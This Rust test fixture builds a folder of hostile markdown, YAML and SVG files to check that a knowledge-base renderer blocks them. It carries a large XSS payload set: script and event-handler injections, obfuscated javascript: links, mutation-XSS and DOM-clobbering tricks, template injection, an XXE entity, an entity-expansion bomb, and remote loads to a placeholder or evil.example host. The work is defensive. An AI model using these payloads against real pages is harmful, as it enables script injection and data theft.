//! A folder that means harm: everything by which text, fields, names and pictures could run, load or take over a page.
//!
//! Whatever runs sets `window.hit`; whatever loads or leads away asks `ORIGIN`, where a test listens.

use std::fmt::Write;

use fieldlore::model::Kind;
use fieldlore::model::fields::COMMON;
use fieldlore::model::schema::{Field, Shape, fields_of};

use crate::folder::Folder;

/// Stands for the address that nobody may be made to ask.
pub const ORIGIN: &str = "ORIGIN";
/// A word of every entry, to search for.
pub const WORD: &str = "zzmalice";

/// What is put wherever a field takes text.
const FIELD: &str = "zzmalice '\"><script>hit=1</script><img src=ORIGIN/f onerror=hit=1><svg/onload=hit=1> \
     <a href=\"javascript:hit=1\">x</a> [m](javascript:hit=1) ![p](ORIGIN/p.png) </title></textarea></style>--> `'\"` {{7*7}} \u{202e}";

/// Bodies by name. Each is an entry of its own, so that none can swallow another.
const BODIES: &[(&str, &str)] = &[
    (
        "script",
        "<script>hit=1</script>\n\n<script src=ORIGIN/s.js></script>\n\na <SCRIPT\n>hit=1</SCRIPT> b <scr<script>ipt>hit=1</script>",
    ),
    (
        "script-in-block",
        "<div>\n<script>\nhit=1\n\nhit=1\n</script>\n</div>\n\n<xmp><script>hit=1</script></xmp><plaintext><script>hit=1</script>",
    ),
    (
        "handlers",
        "<img src=x onerror=hit=1>\n\n<b onmouseover=hit=1 onclick=hit=1>x</b> <details open ontoggle=hit=1><summary>s</summary>d</details> <p onfocus=hit=1 tabindex=0 autofocus>x</p>\n\n<img/src=x/onerror=hit=1> <img src=\"x\"onerror=hit=1> <video src=x onerror=hit=1></video><audio src=x onerror=hit=1></audio>\n\n<input autofocus onfocus=hit=1><select autofocus onfocus=hit=1></select><marquee onstart=hit=1>x</marquee><p style=animation-name:x onanimationstart=hit=1>y</p>",
    ),
    (
        "links-inline",
        "[a](javascript:hit=1) [b](JaVaScRiPt:hit=1) [c](<java script:hit=1>) [d](java&#115;cript:hit=1) [e](javascript&colon;hit=1) [f](\u{1}javascript:hit=1) [g](<javascript:hit=1>) [h](&#x6A;avascript:hit=1 \"t\\\" onclick=hit=1\") [i](vbscript:hit=1) [j](data:text/html,<script>hit=1</script>) [k](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==) [l](blob:ORIGIN/x) [m](file:///etc/passwd) [n](view-source:ORIGIN) [o](%6Aavascript:hit=1) [p](javascript%3Ahit=1) [q](//ORIGIN/x) [r](\\\\evil.example/x)",
    ),
    (
        "links-reference",
        "[a][1] [2] [c][] ![d][1]\n\n[1]: javascript:hit=1 'x\" onmouseover=hit=1'\n[2]: <JAVASCRIPT:hit=1>\n[c]: data:text/html,<script>hit=1</script>\n",
    ),
    (
        "links-auto",
        "<javascript:hit=1> <JAVASCRIPT:hit=1> <data:text/html,hit> <vbscript:hit> <ORIGIN/auto> <x@y.example\"onclick=hit=1>",
    ),
    (
        "links-html",
        "<a href=javascript:hit=1>a</a> <a href='java\tscript:hit=1'>b</a> <a href='java\nscript:hit=1'>c</a> <a href='&#106;&#97;vascript:hit=1'>d</a> <a href=' javascript:hit=1'>e</a> <a href='javascript&colon;hit=1'>f</a> <a href=ORIGIN/ping ping=ORIGIN/ping target=_top download>g</a> <a xlink:href=javascript:hit=1>h</a> <area href=javascript:hit=1> <link rel=stylesheet href=ORIGIN/l.css> <link rel=prefetch href=ORIGIN/l> <link rel=preconnect href=ORIGIN> <link rel=icon href=ORIGIN/i.png>",
    ),
    (
        "images",
        "![a](javascript:hit=1) ![b](data:image/svg+xml,<svg/onload=hit=1>) ![c](ORIGIN/a.png) ![d](//evil.example/x.png) ![e](x.png\"onerror=\"hit=1) ![f](pics/\"x.png 'y\" onerror=hit=1') <img src=ORIGIN/i.png> <img srcset='ORIGIN/s.png 2x' src=ORIGIN/s.png> <picture><source srcset=ORIGIN/p.png><img src=ORIGIN/q.png></picture> <img src=/events><img src=/events><img src=/events><img src=/events><img src=/events><img src=/events><img src=/events> <img src='/files/../events'> <img src=/search?q=x> <img lowsrc=ORIGIN/l dynsrc=ORIGIN/d>",
    ),
    (
        "styles",
        "<style>@import 'ORIGIN/i.css'; body{display:none;background:url(ORIGIN/b.png)}</style>\n\n<p style=\"position:fixed;inset:0;background:url(ORIGIN/c.png)\">x</p> <div class=\"masthead entry row is-selected\" style=top:0>y</div> <font color=red size=99>z</font> <table background=ORIGIN/t.png><tr><td background=ORIGIN/u.png>t</table> <body background=ORIGIN/v.png>",
    ),
    (
        "frames",
        "<iframe src=ORIGIN/f></iframe><iframe srcdoc='<script>parent.hit=1</script>'></iframe><iframe src=javascript:parent.hit=1></iframe> <frameset><frame src=ORIGIN/g></frameset> <object data=ORIGIN/o></object><object data='data:text/html,<script>parent.hit=1</script>'></object> <embed src=ORIGIN/e><applet code=x></applet><portal src=ORIGIN/p></portal><fencedframe></fencedframe>",
    ),
    (
        "head",
        "<base href=ORIGIN/>\n\n<meta http-equiv=refresh content='0;url=ORIGIN/m'>\n\n<meta http-equiv=Content-Security-Policy content=\"default-src *\"><meta http-equiv=set-cookie content=a=b><title>taken</title><html lang=xx onload=hit=1><head><body onload=hit=1>",
    ),
    (
        "forms",
        "<form action=ORIGIN/form id=f1><input name=q value=x><button formaction=javascript:hit=1>go</button></form><input type=image src=ORIGIN/b.png form=f1><textarea autofocus></textarea><isindex action=ORIGIN><button type=submit form=fl-field>s</button><keygen autofocus onfocus=hit=1><dialog open>d</dialog>",
    ),
    (
        "svg",
        "<svg onload=hit=1><script>hit=1</script></svg>\n\n<svg><script xlink:href=ORIGIN/s.js /></svg><svg><image href=ORIGIN/i.png /><use href='ORIGIN/u.svg#x'/><a xlink:href=javascript:hit=1><text>x</text></a><animate onbegin=hit=1 attributeName=x dur=1s><set attributeName=href to=javascript:hit=1><foreignObject><iframe src=ORIGIN/fo></iframe></foreignObject></svg>",
    ),
    (
        "math",
        "<math><mtext><table><mglyph><style><img src=x onerror=hit=1></style></mglyph></table></mtext></math>\n\n<math href=javascript:hit=1>x</math><math><maction actiontype=statusline xlink:href=javascript:hit=1>y</maction></math><math><annotation-xml encoding=text/html><script>hit=1</script></annotation-xml></math>",
    ),
    (
        "mutation",
        "<noscript><p title=\"</noscript><img src=x onerror=hit=1>\"></noscript>\n\n<svg></p><style><a id=\"</style><img src=1 onerror=hit=1>\"></style></svg>\n\n<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=hit=1 src=x>\">\n\n<p id=\"</p><img src=x onerror=hit=1>\">z</p>\n\n<textarea></p><img title=\"</textarea><img src=x onerror=hit=1>\">\n\n<table><td><svg><style><!--</style><img src=x onerror=hit=1>--></table><select><template><style><img src=x onerror=hit=1></style></template></select>\n\n<listing>&lt;img src=x onerror=hit=1&gt;</listing><b title='`<img src=x onerror=hit=1>`'>u</b>",
    ),
    (
        "comments",
        "<!--><img src=x onerror=hit=1>-->\n\n<!--->x<script>hit=1</script>-->\n\n<!-- --!><img src=x onerror=hit=1> -->\n\n<![CDATA[<img src=x onerror=hit=1>]]>\n\n<?php hit=1 ?><?xml-stylesheet href=ORIGIN/x.css?><!DOCTYPE html SYSTEM 'ORIGIN/d.dtd'>\n\n<!--[if gte IE 4]><script>hit=1</script><![endif]-->\n\n<%= hit=1 %> <scr\u{0}ipt>hit=1</scr\u{0}ipt>",
    ),
    (
        "clobber",
        "<a id=fl-field>1</a><a id=fl-main>2</a><div id=fl-results data-query=x><a id=fl-list>3</a></div><p id=fl-open>4</p><p id=fl-status>5</p><form id=fl-answer name=body><input name=parentNode><input id=attributes></form><img name=body><img name=getElementById><img name=querySelector id=location><a id=document name=document>x</a><a id=history href=tel:1>y</a><a id=window>z</a>\n\n<section class='find'><details class=answer data-key=1 open><a data-copy href=/help>c</a></details></section>\n\n# One {#fl-results}\n\n# fl-open\n\n## Two {#fl-main}\n\n## fl-field\n\n### Three {#fl-list .row onclick=hit=1}\n\n### Four {#x\"onclick=hit=1 title=\"y}\n\n- [ ] Five {#fl-status}\n\nsix[^fl-open]\n\n[^fl-open]: seven\n",
    ),
    (
        "attributes",
        "## A {#a onclick=hit=1 .x\"y style=\"color:red\"}\n\n## B {onmouseover=\"hit=1\" src=ORIGIN/a}\n\n### C {#\"><img/src=x/onerror=hit=1>}\n\n- [ ] D {#\"><img/src=x/onerror=hit=1>}\n\n<img src=x {onerror=hit=1}>\n\n<https://x.example/\"onclick=hit=1>\n\n[t](/help 'x\" onclick=hit=1') [u](/help (y\" onclick=hit=1)) ![v\" onerror=hit=1](w.png)\n",
    ),
    (
        "footnotes",
        "one[^\"><script>hit=1</script>] two[^x\"onclick=hit=1] three[^a]\n\n[^\"><script>hit=1</script>]: x\n[^x\"onclick=hit=1]: y\n[^a]: <img src=x onerror=hit=1> [z](javascript:hit=1)\n",
    ),
    (
        "tables",
        "| a <script>hit=1</script> | b\" onclick=hit=1 |\n|:--|--:|\n| <img src=x onerror=hit=1> | [x](javascript:hit=1) |\n| `</td><script>hit=1</script>` | </table><script>hit=1</script> |\n\n> [!NOTE]\n> <img src=x onerror=hit=1>\n\nterm\n: <img src=x onerror=hit=1>\n",
    ),
    (
        "code",
        "```\"><script>hit=1</script>\n</code></pre><script>hit=1</script>\n```\n\n```js\" onclick=hit=1 class=\"x\nhit=1\n```\n\n~~~html {#fl-main onclick=hit=1}\n<script>hit=1</script>\n~~~\n\n`<script>hit=1</script>` ``</code><img src=x onerror=hit=1>``\n\n    <script>hit=1</script>\n",
    ),
    (
        "templates",
        "{% include \"ORIGIN/x\" %} {{ constructor.constructor('hit=1')() }} ${hit=1} #{hit=1} <%= hit=1 %> [a]({% page \"javascript:hit=1\" %}) [b]({{ \"javascript:hit=1\" }}) [c]({% x \"//evil.example/\" %}) {%raw%}<script>hit=1</script>{%endraw%} \\<script>hit=1\\</script> $$\\href{javascript:hit=1}{x}$$\n\n```mermaid\nclick A \"javascript:hit=1\"\n```\n",
    ),
    (
        "custom",
        "<x-evil onclick=hit=1 is=a>1</x-evil><template shadowrootmode=open><script>hit=1</script><img src=ORIGIN/t.png></template><slot onslotchange=hit=1></slot><div popover id=p1>2</div><button popovertarget=p1 onclick=hit=1>3</button><a href=/help accesskey=c contenteditable onbeforeinput=hit=1>4</a><div inert hidden autofocus tabindex=1>5</div><bdo dir=rtl>6</bdo><map name=m><area href=javascript:hit=1></map><img usemap=#m src=x>",
    ),
    ("deep", "QUOTES\n\n<img src=x onerror=hit=1>\n\nOPENED<script>hit=1</script>"),
    (
        "pictures",
        "![one](../pics/evil.svg) ![two](../pics/entities.svg) ![three](../pics/html.png) ![four](../pics/a'b\"c<d>.svg) [five](../pics/evil.svg) ![six](<../pics/evil.svg> \"x\\\" onload=hit=1\")",
    ),
];

/// Pictures by name.
pub const PICTURES: &[(&str, &str)] = &[
    (
        "evil.svg",
        "<?xml version='1.0'?><?xml-stylesheet href='ORIGIN/x.css'?><?xml-stylesheet type='text/xsl' href='ORIGIN/x.xsl'?><svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload=\"new Image().src='ORIGIN/onload'\" viewBox='0 0 9 9'><script>document.documentElement.id='hit';new Image().src='ORIGIN/script'</script><script xlink:href='ORIGIN/s.js'/><script href='/files/pics/run.svg'/><style>@import 'ORIGIN/i.css';@font-face{font-family:f;src:url(ORIGIN/f.woff)}rect{fill:url(ORIGIN/u.svg#x);font-family:f}</style><image href='ORIGIN/i.png' width='9' height='9'/><use href='ORIGIN/u.svg#x'/><use href='data:image/svg+xml,&lt;svg id=\"x\" onload=\"parent.hit=1\"/&gt;#x'/><a xlink:href='javascript:hit=1'><rect width='9' height='9'/></a><animate attributeName='x' onbegin=\"new Image().src='ORIGIN/begin'\" dur='1s'/><foreignObject width='9' height='9'><meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=ORIGIN/refresh'/><iframe xmlns='http://www.w3.org/1999/xhtml' src='ORIGIN/frame'/><form xmlns='http://www.w3.org/1999/xhtml' action='ORIGIN/form'><input autofocus='' onfocus=\"new Image().src='ORIGIN/focus'\"/></form><link xmlns='http://www.w3.org/1999/xhtml' rel='stylesheet' href='ORIGIN/l.css'/></foreignObject></svg>",
    ),
    (
        "entities.svg",
        "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;'><!ENTITY e '&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;'><!ENTITY f '&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;'><!ENTITY g '&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;'><!ENTITY x SYSTEM 'ORIGIN/entity'><!ENTITY % p SYSTEM 'ORIGIN/parameter'> %p;]><svg xmlns='http://www.w3.org/2000/svg'><text>&g;&x;</text></svg>",
    ),
    ("html.png", "<!doctype html><script>new Image().src='ORIGIN/sniffed'</script>"),
    ("run.svg", "new Image().src='ORIGIN/run'"),
    ("a'b\"c<d>.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>new Image().src='ORIGIN/named'</script></svg>"),
];

/// Writes all of it.
pub fn write(folder: &Folder, origin: &str) {
    let put = |path: &str, text: &str| folder.write(path, text.replace(ORIGIN, origin));
    let deep = |body: &str| body.replace("QUOTES", &"> ".repeat(900)).replace("OPENED", &"<div><b>".repeat(900));
    for (name, body) in BODIES {
        put(&format!("attacks/{name}.md"), &format!("---\ntitle: \"{WORD} {name}\"\n---\n\n{}\n", deep(body)));
        let answers = format!("## Answer: {WORD} {name} {{#a}}\n\n**Best when** x\n\n**Respond** {}\n", deep(body));
        put(
            &format!("objections/{name}.md"),
            &format!(
                "---\ntitle: {WORD} {name}\nquestion: \"{WORD} {name}?\"\nquick_response: say\n---\n\n{answers}\n"
            ),
        );
    }
    put("checklists/items.md", &checklist());
    for kind in Kind::all() {
        put(&format!("{}/fields.md", folder_of(kind)), &entry(kind, false));
        put(&format!("{}/wrong.md", folder_of(kind)), &entry(kind, true));
    }
    for name in [
        "a\"b'c<img src=x onerror=hit=1>",
        "javascript:hit=1",
        "<script>hit=1<",
        "&lt;b&gt;",
        "..%2f..",
        "%2e%2e",
        "fl-results",
        "x#y?z",
        "\u{202e}gnp",
    ] {
        put(&format!("attacks/{name}.md"), &format!("{FIELD}\n"));
        put(&format!("\"><img src=x onerror=hit=1>/{name}.md"), &format!("# {FIELD}\n"));
    }
    for (name, picture) in PICTURES {
        put(&format!("pics/{name}"), picture);
    }
    put("taxonomy.yaml", &taxonomy());
    put(
        "people.yaml",
        &format!(
            "people:\n  evil.one: {{name: {0}, team: {0}, mails: [{0}], roles: [{0}]}}\n  {0}: {{name: {0}}}\n",
            quoted(FIELD)
        ),
    );
    put(
        "glossary.md",
        &format!(
            "# Glossary\n\n{FIELD}\n: {FIELD}\n\n**{FIELD}** {FIELD}\n\n| {FIELD} | {FIELD} |\n|---|---|\n| {FIELD} | {FIELD} |\n"
        ),
    );
    put("fieldlore.toml", &format!("name = {}\n", quoted(FIELD)));
}

/// Plain pages have no folder of their own.
fn folder_of(kind: Kind) -> &'static str {
    if kind.folder().is_empty() { "pages" } else { kind.folder() }
}

fn checklist() -> String {
    let items = ["fl-results", "x\"onclick=hit=1", "><script>hit=1</script>"];
    let items: String = items.iter().map(|anchor| format!("- [ ] **{FIELD}** {FIELD} {{#{anchor}}}\n")).collect();
    format!("---\ntitle: {WORD}\n---\n\n{items}")
}

fn taxonomy() -> String {
    let term = format!("  - {{id: evil, label: {0}, crm: [{0}]}}\n  - {{id: {0}, label: {0}}}\n", quoted(FIELD));
    let names = ["stages", "sales_roles", "buyer_roles", "personas", "products", "competitors", "industries"];
    let more = ["segments", "objection_categories", "decision_drivers", "error_types", FIELD];
    names.iter().chain(&more).map(|name| format!("{}:\n{term}", quoted(name))).collect()
}

/// An entry of a kind with every field filled. `wrong` puts text even where something else belongs.
fn entry(kind: Kind, wrong: bool) -> String {
    let mut head = format!("kind: {kind}\n");
    let fields = COMMON.iter().chain(fields_of(kind));
    for field in fields.filter(|field| !["kind", "id", "visibility", "team"].contains(&field.name)) {
        let _ = writeln!(head, "{}: {}", field.name, value(&field.shape, wrong));
    }
    let other = if wrong { format!("id: {0}\n{0}: {0}\n", quoted(FIELD)) } else { String::new() };
    format!(
        "---\n{head}{other}---\n\n## Answer: {FIELD} {{#a}}\n\n**Best when** {FIELD}\n\n**Respond** {FIELD}\n\n**Confirm** {FIELD}\n\n## {FIELD}\n\n- [ ] **{FIELD}** {FIELD}\n"
    )
}

fn value(shape: &Shape, wrong: bool) -> String {
    match shape {
        Shape::List(inner) => format!("[{0}, {0}]", value(inner, wrong)),
        Shape::Map(fields) => {
            let pair = |field: &Field| format!("{}: {}", field.name, value(&field.shape, wrong));
            format!("{{{}}}", fields.iter().map(pair).collect::<Vec<_>>().join(", "))
        }
        _ if wrong => quoted(FIELD),
        Shape::Date => "2026-11-01".to_owned(),
        Shape::Duration => "900d".to_owned(),
        Shape::Flag => "true".to_owned(),
        Shape::Int => "3".to_owned(),
        Shape::Choice(values) => values[0].to_owned(),
        Shape::Term(_) => "evil".to_owned(),
        Shape::User => "evil.one".to_owned(),
        Shape::Reference(Some(kind)) => format!("{kind}/fields"),
        Shape::Reference(None) => "objection/fields#a".to_owned(),
        Shape::Text | Shape::Measure | Shape::Fact => quoted(FIELD),
        Shape::Anything => format!("{{url: {0}, {0}: {0}}}", quoted(FIELD)),
    }
}

/// A text in YAML, TOML and JSON alike.
fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}
